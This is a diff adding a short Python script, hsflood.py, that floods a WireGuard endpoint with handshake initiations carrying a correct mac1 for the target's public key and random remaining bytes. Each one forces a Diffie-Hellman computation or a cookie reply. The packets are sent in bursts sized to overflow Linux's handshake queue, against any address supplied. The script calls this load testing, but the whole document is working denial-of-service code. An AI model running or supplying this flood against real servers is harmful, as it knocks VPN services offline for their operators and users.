@@ -1,0 +1,43 @@
+#!/usr/bin/env python3
+# SPDX-License-Identifier: BSL-1.0
+"""hsflood.py ADDRESS PORT PUBLIC_KEY SECONDS: put a WireGuard interface under load.
+
+Sends handshake initiations whose mac1 is right for PUBLIC_KEY and whose rest is noise (whitepaper, sections 5.4.2 and
+5.4.4): the receiver must spend a Diffie-Hellman computation on each, or ask for a cookie. They come in bursts from
+UDP port 40000, each burst larger than the mark at which Linux's handshake queue counts as full.
+"""
+import base64
+import hashlib
+import os
+import socket
+import struct
+import sys
+import time
+
+SOURCE_PORT, BURST, PAUSE_S = 40000, 2048, 0.3
+
+
+def initiation(mac1_key):
+    body = struct.pack('<I', 1) + os.urandom(112)
+    return body + hashlib.blake2s(body, key=mac1_key, digest_size=16).digest() + bytes(16)
+
+
+def main():
+    address, port, public_key, seconds = sys.argv[1:]
+    mac1_key = hashlib.blake2s(b'mac1----' + base64.b64decode(public_key)).digest()
+    packets = [initiation(mac1_key) for _ in range(256)]
+    flood = socket.socket(socket.AF_INET6 if ':' in address else socket.AF_INET, socket.SOCK_DGRAM)
+    flood.bind(('', SOURCE_PORT))
+    flood.connect((address, int(port)))
+    end = time.monotonic() + float(seconds)
+    while time.monotonic() < end:
+        for i in range(BURST):
+            try:
+                flood.send(packets[i % len(packets)])
+            except OSError:  # a full queue on the way is part of a flood
+                pass
+        time.sleep(PAUSE_S)
+
+
+if __name__ == '__main__':
+    main()
